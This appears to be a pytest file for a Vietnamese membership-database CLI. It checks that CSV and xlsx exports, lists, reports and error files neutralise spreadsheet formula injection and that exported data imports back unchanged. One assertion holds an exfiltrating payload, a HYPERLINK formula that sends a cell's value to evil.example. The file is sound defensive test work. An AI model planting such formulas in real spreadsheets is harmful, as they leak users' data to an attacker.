"""Formula injection: no CSV or xlsx the tool writes holds a cell a spreadsheet would run, and what export
writes still imports back unchanged (OWASP's leading quote is taken off again on import)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from dangvien_cli.text import FORMULA_STARTS, neutralise, restore
from tests.conftest import Run
from tests.hostile.make_corpus import INJECTIONS

HOSTILE = Path(__file__).parent / "hostile"
DANGEROUS = (*FORMULA_STARTS,)


@given(st.text())
def test_neutralise_is_undone_by_restore(text: str) -> None:
    escaped = neutralise(text)
    assert restore(escaped) == text
    assert not escaped.startswith(DANGEROUS)
    if not text.startswith(("'", *DANGEROUS)):
        assert escaped == text  # ordinary text is left alone
        assert restore(text) == text


def test_only_text_is_neutralised() -> None:
    assert neutralise(-11) == -11  # a shortfall in a report stays a number
    assert neutralise("-11") == "'-11"
    assert neutralise(None) is None
    assert restore("'Hoa") == "'Hoa"  # a quote that escapes nothing is kept


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula_in_csv(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(DANGEROUS), cell


def _assert_no_formula_in_xlsx(path: Path) -> int:
    """Every cell of every sheet is a value, never a formula; returns how many text cells there were."""
    workbook = load_workbook(path)  # not read-only: data_type tells formulas ("f") apart
    texts = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts += isinstance(cell.value, str)
    return texts


def _import_hostile_members(run: Run) -> None:
    result = run("import", "members", str(HOSTILE / "formula_injection.csv"))
    assert result.exit_code == 0, result.stderr


def test_csv_export_neutralises_and_imports_back_unchanged(
    run: Run, city: None, tmp_path: Path, migrated_template: Path
) -> None:
    _import_hostile_members(run)
    exported = run("export", "members").stdout
    _assert_no_formula_in_csv(exported)
    assert "'=HYPERLINK(" in exported
    assert "'+84 912 345 678" in exported
    assert "'@SUM(" in exported
    assert "''=already escaped" not in exported  # the corpus's "'=x" was read as "=x", written as "'=x"

    # Into the same database: every row is equal to what is stored, so nothing changes.
    path = tmp_path / "members.csv"
    path.write_text(exported, encoding="utf-8")
    again = run("import", "members", str(path), "--format", "json")
    assert again.exit_code == 0, again.stderr
    assert json.loads(again.stdout)["skipped"] == len(INJECTIONS)

    # Into a fresh database: the same list comes out.
    other = tmp_path / "other.db"
    shutil.copyfile(migrated_template, other)
    orgs = tmp_path / "orgs.csv"
    orgs.write_text(run("export", "orgs").stdout, encoding="utf-8")
    assert run("--db", str(other), "import", "orgs", str(orgs)).exit_code == 0
    assert run("--db", str(other), "import", "members", str(path)).exit_code == 0
    assert run("--db", str(other), "export", "members").stdout == exported
    names = json.loads(run("--db", str(other), "member", "list", "--format", "json").stdout)
    assert {row["full_name"] for row in names} == {restore(text) for text in INJECTIONS}


def test_xlsx_export_writes_text_cells_and_imports_back_unchanged(
    run: Run, city: None, tmp_path: Path, migrated_template: Path
) -> None:
    _import_hostile_members(run)
    xlsx = tmp_path / "members.xlsx"
    assert run("export", "members", "--format", "xlsx", "-o", str(xlsx)).exit_code == 0
    assert _assert_no_formula_in_xlsx(xlsx) > 2 * len(INJECTIONS)
    sheet = load_workbook(xlsx).worksheets[0]
    names = {row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")' in names  # verbatim, as text

    other = tmp_path / "other.db"
    shutil.copyfile(migrated_template, other)
    orgs = tmp_path / "orgs.csv"
    orgs.write_text(run("export", "orgs").stdout, encoding="utf-8")
    assert run("--db", str(other), "import", "orgs", str(orgs)).exit_code == 0
    result = run("--db", str(other), "import", "members", str(xlsx))
    assert result.exit_code == 0, result.stderr
    assert run("--db", str(other), "export", "members").stdout == run("export", "members").stdout


def test_lists_and_reports_neutralise_their_csv_and_xlsx(run: Run, city: None, tmp_path: Path) -> None:
    _import_hostile_members(run)
    assert run("import", "orgs", str(HOSTILE / "sql_injection_orgs.csv")).exit_code == 0
    for args in (
        ("member", "list", "--format", "csv"),
        ("search", "DROP", "--format", "csv"),
        ("org", "list", "--format", "csv"),
        ("log", "--format", "csv"),
        ("report", "monthly", "--cell", "HP", "--month", "2000-01", "--format", "csv"),
        ("report", "ageing", "--org", "MC", "--by", "cell", "--format", "csv"),
    ):
        result = run(*args)
        assert result.exit_code == 0, (args, result.stderr)
        _assert_no_formula_in_csv(result.stdout)
    assert "'=HYPERLINK(" in run("member", "list", "--format", "csv").stdout

    monthly = tmp_path / "monthly.xlsx"
    result = run(
        "report", "monthly", "--cell", "HP", "--month", "2000-01", "--format", "xlsx", "-o", str(monthly)
    )
    assert result.exit_code == 0, result.stderr
    _assert_no_formula_in_xlsx(monthly)
    texts = [c.value for s in load_workbook(monthly).worksheets for r in s.iter_rows() for c in r]
    assert "=1+2" in texts  # the member admitted that month, by name, as text

    ageing = tmp_path / "ageing.xlsx"
    result = run("report", "ageing", "--org", "TP", "--by", "cell", "--format", "xlsx", "-o", str(ageing))
    assert result.exit_code == 0, result.stderr
    _assert_no_formula_in_xlsx(ageing)


def test_the_errors_file_is_neutralised(run: Run, city: None, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(
        'full_name,gender,birth_date,cell,admitted_on\n=1+1,M,"=HYPERLINK(""x"")",HP,1/1/2000\n',
        encoding="utf-8",
    )
    errors = tmp_path / "errors.csv"
    result = run("import", "members", str(bad), "--errors-to", str(errors))
    assert result.exit_code == 1
    text = errors.read_text(encoding="utf-8-sig")
    _assert_no_formula_in_csv(text)
    assert '\'=HYPERLINK("x")' in _cells(text)


def test_taking_the_quote_off_is_said_not_silent(run: Run, city: None, tmp_path: Path) -> None:
    path = tmp_path / "quoted.csv"
    path.write_text(
        "full_name,gender,birth_date,cell,admitted_on,occupation\n"
        "Lê Văn Tám,M,1/1/1970,HP,1/1/2000,'=SUM(1)\n"
        "Lê Văn Chín,M,1/1/1971,HP,1/1/2000,'Hoa\n",  # a quote that escapes nothing stays, and is not counted
        encoding="utf-8",
    )
    result = run("--lang", "en", "import", "members", str(path), "--format", "json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["unescaped_cells"] == 1
    assert "1 cell began with the quote that guards against formula injection" in result.stderr
    members = json.loads(run("member", "list", "--format", "json").stdout)
    assert {m["occupation"] for m in members} == {"=SUM(1)", "'Hoa"}
